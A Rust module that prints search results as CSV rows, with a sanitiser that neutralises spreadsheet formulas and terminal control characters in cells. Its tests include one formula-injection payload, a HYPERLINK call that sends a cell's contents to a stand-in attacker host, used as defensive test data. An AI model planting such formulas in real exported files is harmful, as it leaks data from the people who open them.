//! Prints hits as comma-separated values.

use std::io::{self, Write};

use csv::WriterBuilder;

use crate::document::{Heading, Metadata, Outlet};
use crate::search::{Hit, Results};

/// The columns of a document, as [`document_cells`] fills them.
pub(super) const DOCUMENT: [&str; 11] =
    ["id", "title", "outlet_id", "outlet", "authors", "published", "url", "source", "member", "line", "sha256"];
/// The columns of a hit before those of its document, and after them.
const BEFORE: [&str; 4] = ["query_id", "query", "rank", "score"];
const AFTER: [&str; 7] = ["start", "end", "passage", "part", "published_precision", "place", "duplicates"];

pub(super) fn header(out: &mut dyn Write) -> io::Result<()> {
    row([&BEFORE[..], &DOCUMENT, &AFTER].concat().into_iter().map(String::from), out)
}

pub(super) fn rows(id: Option<&str>, text: &str, results: &Results, out: &mut dyn Write) -> io::Result<()> {
    results.hits.iter().try_for_each(|hit| row(cells(id.unwrap_or_default(), text, hit), out))
}

fn cells(query_id: &str, query: &str, hit: &Hit) -> impl Iterator<Item = String> {
    let metadata = &hit.document.metadata;
    let before: [String; BEFORE.len()] =
        [query_id.into(), query.into(), hit.rank.to_string(), hit.passage.score.to_string()];
    let after: [String; AFTER.len()] = [
        hit.passage.range.start.to_string(),
        hit.passage.range.end.to_string(),
        hit.text.clone(),
        hit.part().map(|part| part.to_string()).unwrap_or_default(),
        precision(metadata),
        metadata.place.clone().unwrap_or_default(),
        hit.duplicates.iter().map(|(heading, _)| heading.id.as_str()).collect::<Vec<_>>().join("; "),
    ];
    before.into_iter().chain(document_cells(&hit.document)).chain(after)
}

/// A document in the columns [`DOCUMENT`].
pub(super) fn document_cells(document: &Heading) -> [String; DOCUMENT.len()] {
    let Heading { id, title, metadata, provenance } = document;
    let place = provenance.place.as_ref();
    let [outlet_id, outlet] = outlet_cells(metadata.outlet.as_ref());
    [
        id.clone(),
        title.clone(),
        outlet_id,
        outlet,
        metadata.authors.join("; "),
        metadata.published.map(|date| date.to_string()).unwrap_or_default(),
        metadata.url.clone().unwrap_or_default(),
        provenance.source.clone(),
        place.and_then(|place| place.member.clone()).unwrap_or_default(),
        place.and_then(|place| place.line).map(|line| line.to_string()).unwrap_or_default(),
        provenance.sha256.clone(),
    ]
}

/// Id and name of an outlet, as two cells.
pub(super) fn outlet_cells(outlet: Option<&Outlet>) -> [String; 2] {
    outlet.map_or_else(<[String; 2]>::default, |outlet| [outlet.id.clone(), outlet.name.clone()])
}

/// How exactly the date of publication is known.
pub(super) fn precision(metadata: &Metadata) -> String {
    metadata.published.map(|date| date.precision().name().into()).unwrap_or_default()
}

/// Prints a row, its cells made harmless.
pub(super) fn row(cells: impl IntoIterator<Item = String>, out: &mut dyn Write) -> io::Result<()> {
    let mut writer = WriterBuilder::new().from_writer(out);
    writer.write_record(cells.into_iter().map(harmless).collect::<Vec<_>>())?;
    writer.flush()
}

/// A cell that spreadsheets do not read as a formula, which could leak other cells, and terminals not as a command.
pub(super) fn harmless(cell: String) -> String {
    let is_harmless = |char: char| !char.is_control() || matches!(char, '\n' | '\r' | '\t');
    let cell = cell.replace(|char| !is_harmless(char), "\u{FFFD}");
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{cell}") } else { cell }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_is_a_formula() {
        assert_eq!(harmless("=HYPERLINK(\"//evil.example\"&A1)".into()), "'=HYPERLINK(\"//evil.example\"&A1)");
        assert_eq!(harmless("- قال".into()), "'- قال");
        assert_eq!(harmless("سجن = 1".into()), "سجن = 1");
    }

    #[test]
    fn no_cell_commands_a_terminal() {
        assert_eq!(harmless("سجن\n\u{1b}[31m\u{9b}\u{7f}".into()), "سجن\n\u{FFFD}[31m\u{FFFD}\u{FFFD}");
    }
}
